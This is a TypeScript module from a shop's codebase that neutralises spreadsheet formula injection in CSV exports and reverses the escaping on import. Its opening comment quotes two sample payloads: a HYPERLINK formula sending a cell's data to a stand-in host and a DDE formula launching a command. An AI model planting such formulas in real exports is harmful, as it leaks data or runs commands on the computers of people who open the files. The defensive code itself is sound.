/**
 * Spreadsheet formula injection (CSV injection, OWASP): a text cell that starts with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google
 * Sheets when the file is opened (`=HYPERLINK("http://ev.il/?"&A1,"Pay here")`,
 * `=cmd|' /C calc'!A0`). Every CSV the shop writes (the staff order export in the browser, the
 * catalog export on the server) passes each cell through `safeSheetCell`, which prefixes such a
 * text with a single quote, so the program shows it as text (docs/security.md, What is defended).
 *
 * - Numbers stay numbers: a `number` cell is never changed, and neither is text that is a plain
 *   decimal (`-12.50`, what `toFixed` gives), which the program reads as that number, not a formula.
 * - A text that already starts with a quote before one of those characters gets one more, so
 *   `readSheetCell` (the catalog import) gives back exactly what was exported.
 */
// OWASP's list, plus a line feed and the full-width forms some spreadsheet programs also take.
const TRIGGER = /^[=+\-@\t\r\n＝＋－＠]/;
const QUOTED_TRIGGER = /^'+[=+\-@\t\r\n＝＋－＠]/;
const PLAIN_DECIMAL = /^-?\d+(\.\d+)?$/;

/** A cell as a CSV writer should write it: formula-looking text prefixed with `'`. */
export function safeSheetCell<T>(value: T): T | string {
  if (typeof value !== 'string') return value;
  if (PLAIN_DECIMAL.test(value)) return value;
  return TRIGGER.test(value) || QUOTED_TRIGGER.test(value) ? `'${value}` : value;
}

/** Every cell of a row through `safeSheetCell`. */
export function safeSheetRow<T>(values: readonly T[]): (T | string)[] {
  return values.map(safeSheetCell);
}

/** A text cell read back from a sheet the shop wrote: the quote `safeSheetCell` added is taken off. */
export function readSheetCell(value: string): string {
  return QUOTED_TRIGGER.test(value) ? value.slice(1) : value;
}
